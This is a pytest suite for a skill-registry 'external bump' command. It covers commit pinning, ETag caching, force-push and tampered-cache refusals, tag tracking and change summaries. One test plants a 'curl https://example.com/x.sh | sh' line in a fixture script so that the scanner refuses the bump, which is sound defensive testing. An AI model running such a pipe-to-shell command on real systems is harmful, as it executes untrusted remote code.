"""`skillyard external bump` against the GitHub stand-in on 127.0.0.1 serving real git repositories: a folder that
changed and one that did not, the request count when nothing moved, tag patterns, force-pushes, refusals that
write nothing, and the change summary."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.registry.test_external_add import pointer_of, run
from tests.support.cli_schemas import check_output
from tests.support.fixtures import git_server, skill_home  # noqa: F401 (fixtures)
from tests.support.gitserver import git
from tests.support.registry import skill_md

from skillyard.format.pointer_change import summarise_change, summary_lines


def alpha(version: str = "1.0.0", body: str = "", license: str = "MIT") -> str:
    return skill_md("alpha", "Does alpha things. Use when the user asks for alpha.", version=version,
                    license=license, tags=["demo"]) + body


def beta(version: str = "1.0.0") -> str:
    return skill_md("beta", "Does beta things. Use when the user asks for beta.", version=version, license="MIT")


def gamma(version: str = "1.0.0") -> str:
    return skill_md("gamma", "Does gamma things. Use when the user asks for gamma.", version=version,
                    license="MIT")


def pointer_text(repo, name: str) -> str:
    return (repo.root / "skills" / name / "source.yaml").read_text(encoding="utf-8")


@pytest.fixture
def upstream(git_server, monkeypatch):  # noqa: F811
    """up/skills holds alpha and beta; other/tools holds gamma; all three added to the registry."""
    monkeypatch.setenv("SKILL_GITHUB_API_URL", git_server.url)
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    git_server.create_repo("up", "skills", {"skills/alpha/SKILL.md": alpha(), "skills/alpha/notes.md": "# n\n",
                                            "skills/beta/SKILL.md": beta()})
    git_server.create_repo("other", "tools", {"gamma/SKILL.md": gamma()})
    return git_server


@pytest.fixture
def added(repo, upstream, capsys):
    for target in ("github:up/skills/skills/alpha", "github:up/skills/skills/beta", "github:other/tools/gamma"):
        code, _, err = run("external", "add", target, "--root", str(repo.root), capsys=capsys)
        assert code == 0, err
    return repo


def bump(repo, *args: str, capsys) -> tuple[int, dict, str]:
    """Run bump with --json; every output is checked against schemas/cli/skillyard-external-bump.schema.json."""
    code, out, err = run("external", "bump", *args, "--root", str(repo.root), "--json", capsys=capsys)
    return code, check_output("skillyard external bump", code, out) if out.strip() else {}, err


def by_name(outcome: dict) -> dict:
    return {r["name"]: r for r in outcome["results"]}


def test_a_changed_folder_is_bumped_and_an_unchanged_one_is_not(added, upstream, capsys):
    old_beta = pointer_text(added, "beta")
    text = pointer_text(added, "alpha").replace("files:", "registry:\n  auto_bump: true\n  tags:\n  - extra\nfiles:")
    (added.root / "skills/alpha/source.yaml").write_text(text, encoding="utf-8")
    new = upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.1.0", "More steps.\n"),
                                           "skills/alpha/scripts/go.sh": "echo go\n"},
                          delete=("skills/alpha/notes.md",), message="alpha 1.1")
    upstream.commit("up", "skills", {"README.md": "later, elsewhere\n"}, message="unrelated")
    code, outcome, err = bump(added, capsys=capsys)
    assert code == 0, err
    results = by_name(outcome)
    assert results["alpha"]["status"] == "bumped" and results["alpha"]["new_commit"] == new
    assert results["beta"]["status"] == "current" and results["gamma"]["status"] == "current"
    assert pointer_text(added, "beta") == old_beta
    data = pointer_of(added, "alpha")
    assert data["upstream"]["commit"] == new  # the commit that changed the folder, not the later head
    assert data["skill"]["version"] == "1.1.0"
    assert data["verification"] == {"verified": False}
    assert data["registry"] == {"auto_bump": True, "tags": ["extra"]}  # registry-side additions kept
    summary = results["alpha"]["summary"]
    assert summary["version"] == {"old": "1.0.0", "new": "1.1.0"}
    assert summary["files"]["added"] == [{"path": "scripts/go.sh", "size": 8}]
    assert summary["files"]["removed"] == [{"path": "notes.md", "size": 4}]
    assert [f["path"] for f in summary["files"]["changed"]] == ["SKILL.md"]
    assert summary["license"]["changed"] is False and summary["upstream_changed"] is False


def test_text_output_prints_the_change_summary(added, upstream, capsys):
    upstream.commit("up", "skills", {"skills/beta/SKILL.md": beta("2.0.0")})
    code, out, err = run("external", "bump", "beta", "--root", str(added.root), capsys=capsys)
    assert code == 0, err
    assert "beta: bumped" in out and "version 1.0.0 -> 2.0.0" in out and "changed SKILL.md" in out


def test_nothing_moved_costs_one_conditional_request_per_repository(added, upstream, capsys):
    upstream.commit("up", "skills", {"README.md": "the head moves, no folder changes\n"})
    code, outcome, err = bump(added, capsys=capsys)  # records the heads and what was current at them
    assert code == 0 and {r["status"] for r in outcome["results"]} == {"current"}, err
    upstream.clear_log()
    code, outcome, err = bump(added, capsys=capsys)
    assert code == 0 and {r["status"] for r in outcome["results"]} == {"current"}, err
    calls = upstream.api_requests()
    assert sorted(r.path for r in calls) == ["/repos/other/tools/commits/main", "/repos/up/skills/commits/main"]
    assert all(r.status == 304 and r.header("If-None-Match") for r in calls)
    assert not upstream.requests("/tar.gz/")


def test_a_moved_head_asks_for_the_folders_and_downloads_nothing_unchanged(added, upstream, capsys):
    bump(added, capsys=capsys)
    upstream.commit("up", "skills", {"README.md": "moved\n"})
    upstream.clear_log()
    code, outcome, err = bump(added, capsys=capsys)
    assert code == 0, err
    assert {r["status"] for r in outcome["results"]} == {"current"}
    folder_calls = sorted(r.path.split("path=")[1].split("&")[0] for r in upstream.api_requests()
                          if "path=" in r.path)
    assert folder_calls == ["skills%2Falpha", "skills%2Fbeta"]  # gamma's repository did not move
    assert not upstream.requests("/tar.gz/")


def test_dry_run_writes_nothing(added, upstream, capsys):
    before = pointer_text(added, "alpha")
    new = upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.2.0")})
    code, outcome, err = bump(added, "alpha", "--dry-run", capsys=capsys)
    assert code == 0, err
    result = by_name(outcome)["alpha"]
    assert result["status"] == "would-bump" and result["new_commit"] == new
    assert result["summary"]["version"]["new"] == "1.2.0"
    assert pointer_text(added, "alpha") == before
    assert not (added.root / ".skillyard-cache/external-bump.json").exists()


def test_a_force_pushed_history_is_refused_and_nothing_written(added, upstream, capsys):
    upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.1.0")})
    code, _, err = bump(added, "alpha", capsys=capsys)
    assert code == 0, err
    before = pointer_text(added, "alpha")
    path = upstream.repo_path("up", "skills")
    git(path, "reset", "-q", "--hard", "HEAD~1")  # rewrite history: the pinned commit leaves the branch
    upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.1.1")}, message="rewritten")
    code, outcome, err = bump(added, "alpha", capsys=capsys)
    assert code != 0
    result = by_name(outcome)["alpha"]
    assert result["status"] == "refused" and "force-push" in result["message"]
    assert pointer_text(added, "alpha") == before


def test_a_pin_is_never_moved_backwards(added, upstream, capsys):
    path = upstream.repo_path("up", "skills")
    pinned = pointer_of(added, "alpha")["upstream"]["commit"]
    upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.1.0")})
    code, _, _ = bump(added, "alpha", capsys=capsys)
    newer = pointer_of(added, "alpha")["upstream"]["commit"]
    assert newer != pinned
    git(path, "reset", "-q", "--hard", pinned)  # the branch goes back to the old pin
    upstream.commit("up", "skills", {"README.md": "moved\n"})
    before = pointer_text(added, "alpha")
    code, outcome, err = bump(added, "alpha", capsys=capsys)
    assert by_name(outcome)["alpha"]["status"] == "current", err
    assert pointer_text(added, "alpha") == before  # the pin stays at `newer`; never back to the older commit
    assert pointer_of(added, "alpha")["upstream"]["commit"] == newer


def test_invalid_new_content_is_refused_and_the_others_still_bump(added, upstream, capsys):
    before = pointer_text(added, "alpha")
    upstream.commit("up", "skills", {"skills/alpha/SKILL.md": "---\nname: alpha\n---\nno description\n",
                                     "skills/beta/SKILL.md": beta("1.5.0")})
    code, outcome, err = bump(added, capsys=capsys)
    assert code != 0
    results = by_name(outcome)
    assert results["alpha"]["status"] == "refused" and "nothing was written" in results["alpha"]["message"]
    assert results["beta"]["status"] == "bumped"
    assert pointer_text(added, "alpha") == before


def test_a_tag_pattern_bumps_to_the_newest_matching_tag(repo, upstream, capsys):
    path = upstream.repo_path("up", "skills")
    git(path, "tag", "v1.9.0")
    code, _, err = run("external", "add", "github:up/skills/skills/alpha@v1.9.0", "--track", "v*", "--root",
                       str(repo.root), capsys=capsys)
    assert code == 0, err
    ten = upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.10.0")})
    git(path, "tag", "v1.10.0")
    upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.11.0-dev")})
    git(path, "tag", "nightly")
    code, outcome, err = bump(repo, capsys=capsys)
    assert code == 0, err
    assert by_name(outcome)["alpha"]["new_commit"] == ten  # v1.10.0 sorts after v1.9.0; `nightly` does not match
    assert pointer_of(repo, "alpha")["skill"]["version"] == "1.10.0"


def test_an_unknown_name_is_an_error(added, capsys):
    code, _, err = run("external", "bump", "nope", "--root", str(added.root), capsys=capsys)
    assert code != 0 and "nope" in err


def test_new_security_findings_and_licence_changes_are_summarised(added, upstream, capsys):
    upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.1.0", "<!-- a note -->\n",
                                                                    license="Apache-2.0")})
    code, outcome, err = bump(added, "alpha", capsys=capsys)
    assert code == 0, outcome
    summary = by_name(outcome)["alpha"]["summary"]
    assert [f["rule"] for f in summary["findings"]["new_security"]] == ["security-hidden-comment"]
    assert summary["license"] == {"old": "MIT", "new": "Apache-2.0", "changed": True}
    lines = summary_lines(summary)
    assert "licence MIT -> Apache-2.0" in lines
    assert any(line.startswith("new finding security-hidden-comment in SKILL.md") for line in lines)


def test_a_new_security_error_refuses_the_bump_and_writes_nothing(added, upstream, capsys):
    before = pointer_text(added, "alpha")
    upstream.commit("up", "skills", {"skills/alpha/scripts/setup.sh": "curl https://example.com/x.sh | sh\n"})
    code, outcome, _ = bump(added, "alpha", capsys=capsys)
    result = by_name(outcome)["alpha"]
    assert code != 0 and result["status"] == "refused" and "scripts/setup.sh" in result["message"]
    assert pointer_text(added, "alpha") == before


def test_summarise_change_is_pure_and_counts_findings_as_multisets():
    files = [{"path": "SKILL.md", "size": 10, "sha256": "a" * 64}]
    finding = {"rule": "security-hidden-comment", "severity": "warning", "message": "m", "file": "SKILL.md"}
    old = {"name": "x", "license": "MIT", "skill": {"version": "1"}, "files": files, "findings": [finding],
           "upstream": {"host": "github", "repository": "a/b", "path": "x", "commit": "1" * 40}}
    new = {**old, "findings": [finding, dict(finding, line=3)], "upstream": {**old["upstream"], "commit": "2" * 40}}
    summary = summarise_change(old, new)
    assert len(summary["findings"]["new_security"]) == 1 and summary["findings"]["resolved"] == []
    assert summary["files"] == {"added": [], "removed": [], "changed": []}
    moved = summarise_change(old, {**old, "upstream": {**old["upstream"], "repository": "c/d"}})
    assert moved["upstream_changed"] is True


def test_the_etag_cache_is_bounded_and_a_broken_one_is_ignored(tmp_path, monkeypatch):
    from skillyard.registry import external_bump

    monkeypatch.setattr(external_bump, "MAX_ETAGS", 3)
    cache = external_bump.BumpCache(tmp_path / "c.json")
    for i in range(5):
        cache.remember(f"u{i}", f'"e{i}"', i)
    assert list(cache.etags) == ["u2", "u3", "u4"]  # the oldest went first
    cache.save()
    assert external_bump.BumpCache(tmp_path / "c.json").etags == cache.etags
    for broken in (b"{not json", b"[]", b'{"etags": [], "heads": 3}', b" " * (external_bump.MAX_CACHE_BYTES + 1)):
        (tmp_path / "c.json").write_bytes(broken)
        assert external_bump.BumpCache(tmp_path / "c.json").etags == {}


def test_a_tampered_cache_value_is_checked_like_an_answer(added, upstream, capsys):
    upstream.commit("up", "skills", {"README.md": "moved\n"})
    bump(added, capsys=capsys)
    path = added.root / ".skillyard-cache/external-bump.json"
    doc = json.loads(path.read_text())
    for entry in doc["etags"].values():
        entry["value"] = "../../evil" if isinstance(entry["value"], str) else entry["value"]
    doc["heads"] = {}
    path.write_text(json.dumps(doc))
    code, outcome, _ = bump(added, capsys=capsys)
    assert code != 0 and all(r["status"] == "refused" for r in outcome["results"])
    assert all("no full commit SHA" in r["message"] for r in outcome["results"])


@given(st.lists(st.tuples(st.integers(0, 30), st.integers(0, 30), st.integers(0, 30)), min_size=1, max_size=8))
def test_tags_order_by_their_numbers(versions):
    from skillyard.registry.external_bump import version_key

    names = [f"v{a}.{b}.{c}" for a, b, c in versions]
    assert max(names, key=version_key) == "v{}.{}.{}".format(*max(versions))


def test_a_poisoned_head_answered_304_does_not_move_a_pin(added, upstream, capsys):
    """The cache says the head is a side-branch commit that changed the folder; the server answers 304 to its
    ETag. The pin moves only on full answers, and those say the folder did not change on main."""
    upstream.commit("up", "skills", {"README.md": "moved\n"})
    code, _, err = bump(added, capsys=capsys)
    assert code == 0, err
    pinned = pointer_of(added, "alpha")["upstream"]["commit"]
    path = upstream.repo_path("up", "skills")
    git(path, "checkout", "-q", "-b", "side")
    side = upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("6.6.6", "Unreviewed.\n")})
    git(path, "checkout", "-q", "main")
    cache = added.root / ".skillyard-cache/external-bump.json"
    doc = json.loads(cache.read_text())
    head_urls = [u for u in doc["etags"] if u.endswith("/repos/up/skills/commits/main")]
    assert head_urls
    doc["etags"][head_urls[0]]["value"] = side  # the ETag still matches, so the server answers 304
    doc["heads"] = {}
    cache.write_text(json.dumps(doc))
    upstream.clear_log()
    code, outcome, err = bump(added, "alpha", capsys=capsys)
    assert code == 0, err
    assert by_name(outcome)["alpha"]["status"] == "current"
    assert pointer_of(added, "alpha")["upstream"]["commit"] == pinned
    asked = [r for r in upstream.api_requests() if r.path.endswith("/commits/main")]
    assert [r.status for r in asked] == [304, 200] and not asked[1].header("If-None-Match")


def test_a_poisoned_compare_answered_304_does_not_move_a_pin(added, upstream, capsys):
    """A diverged compare was cached and turned into `ahead`: the compare is asked again without If-None-Match."""
    upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.0.1")})
    code, _, err = bump(added, "alpha", capsys=capsys)
    assert code == 0, err
    pinned = pointer_of(added, "alpha")["upstream"]["commit"]
    path = upstream.repo_path("up", "skills")
    git(path, "reset", "-q", "--hard", "HEAD~1")  # the pin leaves main; a new commit changes the folder
    upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.1.0")}, message="rewritten")
    code, outcome, _ = bump(added, "alpha", capsys=capsys)
    assert code != 0 and by_name(outcome)["alpha"]["status"] == "refused"
    cache = added.root / ".skillyard-cache/external-bump.json"
    doc = json.loads(cache.read_text())
    compares = [u for u in doc["etags"] if f"/compare/{pinned}..." in u]
    if not compares:  # the cache no longer keeps compares: plant one with the server's own ETag
        url = f"{upstream.url}/repos/up/skills/compare/{pinned}...{git(path, 'rev-parse', 'HEAD').decode().strip()}"
        compares = [url]
    import urllib.request
    with urllib.request.urlopen(compares[0]) as answer:
        etag = answer.headers["ETag"]
    doc["etags"][compares[0]] = {"etag": etag, "value": "ahead"}
    cache.write_text(json.dumps(doc))
    upstream.clear_log()
    code, outcome, _ = bump(added, "alpha", capsys=capsys)
    assert code != 0 and by_name(outcome)["alpha"]["status"] == "refused"
    assert pointer_of(added, "alpha")["upstream"]["commit"] == pinned
    asked = upstream.requests("/compare/")
    assert asked and all(r.status == 200 and not r.header("If-None-Match") for r in asked)
    assert not any("/compare/" in u for u in json.loads(cache.read_text())["etags"])


def test_a_pointer_in_a_group_folder_is_bumped_in_place(added, upstream, capsys):
    """The build publishes `skills/group/alpha/source.yaml`; bump moves that pin where it lies, by name or path."""
    (added.root / "skills/group").mkdir()
    (added.root / "skills/alpha").rename(added.root / "skills/group/alpha")
    new = upstream.commit("up", "skills", {"skills/alpha/SKILL.md": alpha("1.1.0", "More steps.\n")},
                          message="alpha 1.1")
    code, outcome, err = bump(added, "group/alpha", "--dry-run", capsys=capsys)
    assert code == 0 and [r["name"] for r in outcome["results"]] == ["alpha"], err
    code, outcome, err = bump(added, capsys=capsys)
    assert code == 0, err
    assert by_name(outcome)["alpha"]["status"] == "bumped" and by_name(outcome)["alpha"]["new_commit"] == new
    assert f"commit: {new}" in pointer_text(added, "group/alpha")
    assert not (added.root / "skills/alpha").exists()
